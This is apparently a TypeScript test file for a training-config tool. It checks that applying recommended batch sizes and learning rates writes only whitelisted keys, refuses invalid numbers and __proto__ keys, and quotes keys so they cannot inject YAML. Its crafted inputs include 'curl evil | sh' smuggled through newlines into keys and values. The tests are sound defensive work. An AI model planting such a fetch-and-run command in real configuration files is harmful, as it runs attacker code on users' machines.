// Apply writes only what core allows (issue 12): a crafted study cannot add a key (a
// tuner.command, say) to a user's config, bad numbers are refused, and keys a caller does write
// by path are quoted so that they can never become YAML syntax.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parse as parseYaml } from 'yaml';
import { applyConfigEdits, applyRecommendation, ApplyRefused, APPLY_WRITABLE_PATHS, withBatchSize, withGlobalBatch } from '../../src/core/config';

const OURS = '# mnist\nmodel:\n  type: mlp\ndata:\n  source: mnist\noptimizer:\n  name: adam\n  learning_rate: 0.001\nbatch_size: 32\n';

test('the whitelist is exported from core: the batch-size and lr sites, optimizer.learning_rate, batch_schedule', () => {
  assert.deepEqual(APPLY_WRITABLE_PATHS, [['optimizer', 'learning_rate'], ['batch_schedule']]);
  const out = applyRecommendation(
    OURS,
    'c.yaml',
    { batchSize: 64, learningRate: 0.0014142135623730952, schedule: { kind: 'linear_ramp', from: 32, to: 64, over_samples: 1000 } },
    true,
  );
  const doc = parseYaml(out.text) as Record<string, unknown>;
  assert.equal(doc.batch_size, 64);
  assert.deepEqual(doc.optimizer, { name: 'adam', learning_rate: 0.0014142 });
  assert.deepEqual(doc.batch_schedule, { kind: 'linear_ramp', from: 32, to: 64, over_samples: 1000 });
  assert.ok(out.text.startsWith('# mnist\n'), 'comments stay');
});

test('a crafted study cannot write keys the whitelist does not name', () => {
  const crafted: unknown[] = [
    { kind: 'adaptive', every_steps: 10, command: 'curl evil | sh' },
    { kind: 'adaptive', 'every_steps: 1\ntuner:\n  command': 'curl evil | sh' },
    { kind: 'constant', tuner: { command: 'curl evil | sh' } },
    { kind: 'linear_ramp', from: 32, to: 64, over_samples: '1000\ntuner: {command: x}' },
    { kind: 'adaptive\ntuner:\n  command: x' },
    'kind: constant\ntuner:\n  command: x',
    [{ kind: 'constant' }],
  ];
  for (const schedule of crafted) {
    assert.throws(
      () => applyRecommendation(OURS, 'c.yaml', { batchSize: 64, schedule }, true),
      (e: unknown) => e instanceof ApplyRefused && /the study's schedule cannot be written: batch_schedule/.test(e.message),
      JSON.stringify(schedule),
    );
  }
  // A schedule into someone else's config, or a JSON __proto__ key: refused.
  assert.throws(
    () => applyRecommendation('batch_size: 8\nlr: 0.1\n', 'own.yaml', { batchSize: 16, schedule: { kind: 'constant' } }, false),
    /only be written into a Batch Tuner training config/,
  );
  const proto = JSON.parse('{"kind": "constant", "__proto__": {"command": "x"}}') as unknown;
  assert.throws(() => applyRecommendation(OURS, 'c.yaml', { batchSize: 64, schedule: proto }, true), /unknown key "__proto__"/);
});

test('bad numbers are refused with the value named; nothing is written', () => {
  for (const batchSize of [0, -8, 1.5, NaN, Infinity, 2 ** 40, '64', null, undefined]) {
    assert.throws(
      () => applyRecommendation(OURS, 'c.yaml', { batchSize }, true),
      (e: unknown) => e instanceof ApplyRefused && /batch size to write must be a whole number/.test(e.message),
      String(batchSize),
    );
    assert.throws(() => withBatchSize(OURS, 'yaml', batchSize as number), /batch size to write must be a whole number/);
  }
  for (const learningRate of [0, -0.1, NaN, Infinity, '0.1', null]) {
    assert.throws(
      () => applyRecommendation(OURS, 'c.yaml', { batchSize: 64, learningRate }, true),
      /learning rate to write must be a finite number > 0/,
      String(learningRate),
    );
    assert.throws(() => withBatchSize(OURS, 'yaml', 64, learningRate as number), /learning rate to write must be a finite number > 0/);
  }
  assert.throws(
    () => withGlobalBatch('batch_size: 8\ngradient_accumulation_steps: 1\n', 'c.yaml', { micro: 0, accumulation: 1 }),
    /micro must be a whole number >= 1/,
  );
  assert.throws(
    () => withGlobalBatch('batch_size: 8\nlr: 0.1\n', 'c.yaml', { micro: 8, accumulation: 1, learningRate: NaN }),
    /learningRate must be a number > 0/,
  );
});

test("in a user's own config only the found keys change: the learning rate is never added there", () => {
  const own = '# mine\ntrain:\n  batch_size: 8   # small GPU\n  epochs: 3\n';
  const out = applyRecommendation(own, 'own.yaml', { batchSize: 16, learningRate: 0.01 }, false);
  assert.equal(out.text, '# mine\ntrain:\n  batch_size: 16   # small GPU\n  epochs: 3\n');
  assert.match(out.notes.join(), /no learning-rate key next to batch_size/);
  const toml = applyRecommendation('[train]\nbatch_size = 8 # x\nlr = 0.1\n', 'p.toml', { batchSize: 32, learningRate: 0.2 }, true);
  assert.equal(toml.text, '[train]\nbatch_size = 32 # x\nlr = 0.2\n');
});

test('keys written by path are quoted when they are not plain: a key can never become YAML syntax', () => {
  const evil = 'x: 1\ntuner:\n  command: curl evil | sh\nz';
  const out = applyConfigEdits('batch_size: 8\n', 'c.yaml', [{ path: ['extra'], value: { [evil]: 1, 'a #b': 'c: d', ok_key: 'yes' } }]).text;
  const doc = parseYaml(out) as Record<string, unknown>;
  assert.deepEqual(Object.keys(doc), ['batch_size', 'extra']);
  assert.deepEqual(doc.extra, { [evil]: 1, 'a #b': 'c: d', ok_key: 'yes' });
  const flow = applyConfigEdits('batch_size: 8\nextra: {a: 1}\n', 'c.yaml', [{ path: ['extra', evil], value: 2 }]).text;
  assert.deepEqual((parseYaml(flow) as Record<string, unknown>).extra, { a: 1, [evil]: 2 });
  assert.ok(!('tuner' in (parseYaml(flow) as object)));
});
